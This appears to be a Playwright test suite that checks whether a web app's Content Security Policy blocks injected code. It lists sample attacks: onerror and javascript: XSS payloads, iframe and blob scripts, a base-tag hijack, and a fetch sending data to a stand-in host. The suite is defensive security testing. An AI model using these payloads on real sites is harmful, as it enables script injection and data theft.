import type { Page } from '@playwright/test'
import { expect, test } from './support/page'

// A policy is the same on every screen.
test.describe('what somebody has smuggled into a page', { tag: '@phone' }, () => {
  test.use({ tolerate: [/./] })

  /** Tries every way to run something or to send something. Gives back the ways that worked. */
  const attempts = (page: Page): Promise<string[]> =>
    page.evaluate(async () => {
      const worked: string[] = []
      const told = (way: string): void => void worked.push(way)
      Object.assign(window, { told })
      const add = (name: string, attributes: Record<string, string>): void => {
        const element = document.createElement(name)
        for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value)
        document.body.append(element)
      }
      const { trustedTypes: makers } = window as unknown as {
        readonly trustedTypes: { readonly createPolicy: (name: string, rules: object) => unknown }
      }
      const ways: Record<string, () => unknown> = {
        markup: () => (document.body.appendChild(document.createElement('div')).innerHTML = '<img src="x" onerror="told(`markup`)">'),
        script: () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'told("script")' })),
        handler: () => add('img', { src: 'x', onerror: 'told("handler")' }),
        address: () => (location.href = 'javascript:told("address")'),
        foreign: () => add('script', { src: 'https://elsewhere.example/a.js' }),
        frame: () => add('iframe', { srcdoc: '<script>parent.told("frame")</script>' }),
        blob: () => add('script', { src: URL.createObjectURL(new Blob(['told("blob")'])) }),
        worker: () => new Worker(URL.createObjectURL(new Blob(['fetch("/")'])), { type: 'module' }) && told('worker'),
        policy: () => told(`policy: ${String(makers.createPolicy('other', { createHTML: String }))}`),
        // The one name that the policy lets makers have was taken as the program began.
        again: () => told(`again: ${String(makers.createPolicy('yuhui', { createHTML: String }))}`),
        base: () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' })),
        sent: async () => told(`sent: ${String((await fetch('https://elsewhere.example/?answer=1', { mode: 'no-cors' })).type)}`),
        picture: () =>
          new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail, src: 'https://elsewhere.example/a.png' })),
        form: () => {
          const form = Object.assign(document.createElement('form'), { action: `${location.origin}/sent`, method: 'post' })
          document.body.append(form)
          form.submit()
        },
      }
      for (const way of Object.values(ways))
        try {
          await way()
        } catch {
          continue
        }
      await new Promise((done) => setTimeout(done, 500))
      if (document.baseURI.includes('elsewhere')) told('base')
      return worked
    })

  for (const by of ['the host’s header', 'the page’s own head'])
    test(`neither runs nor sends anything, by ${by}; and what was refused is heard`, async ({ page, context }) => {
      const heard: string[] = []
      context.on('weberror', (error) => heard.push(error.error().message))
      const strangers: string[] = []
      await page.route(/elsewhere\.example/, (route) => {
        strangers.push(route.request().url())
        return route.fulfill({ body: 'told("foreign")', contentType: 'text/javascript' })
      })
      if (by === 'the page’s own head')
        await page.route(
          (url) => url.pathname.endsWith('/places'),
          async (route) => {
            const response = await route.fetch()
            const { 'content-security-policy': policy, ...headers } = response.headers()
            expect(policy).toContain("default-src 'none'")
            await route.fulfill({ response, headers })
          },
        )
      await page.goto('places')
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      const before = page.url()
      expect(await attempts(page)).toEqual([])
      expect(page.url()).toBe(before)
      expect(strangers).toEqual([])
      for (const directive of ['script-src', 'connect-src', 'img-src', 'base-uri', 'form-action', 'require-trusted-types-for'])
        expect(heard.join('\n'), directive).toContain(`policy: ${directive}`)
    })
})
